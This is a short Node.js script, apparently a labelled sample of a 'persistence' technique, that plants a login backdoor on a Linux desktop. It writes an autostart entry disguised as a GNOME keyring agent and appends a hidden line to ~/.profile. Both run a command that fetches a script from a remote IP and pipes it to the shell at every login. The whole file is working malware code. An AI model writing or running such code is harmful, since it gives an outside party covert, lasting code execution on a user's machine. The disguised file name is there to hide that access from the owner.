// class: persistence, autostart entry and rc file; style: node
const fs = require('fs'), os = require('os'), path = require('path');
const cmd = "sh -c 'curl -s http://203.0.113.20/l | sh'";
const dir = path.join(os.homedir(), '.config/autostart');
fs.mkdirSync(dir, { recursive: true });
fs.writeFileSync(path.join(dir, 'gnome-keyring-agent.desktop'), `[Desktop Entry]\nType=Application\nName=Keyring\nExec=${cmd}\nX-GNOME-Autostart-enabled=true\n`);
fs.appendFileSync(path.join(os.homedir(), '.profile'), `\n(${cmd} &) >/dev/null 2>&1\n`);
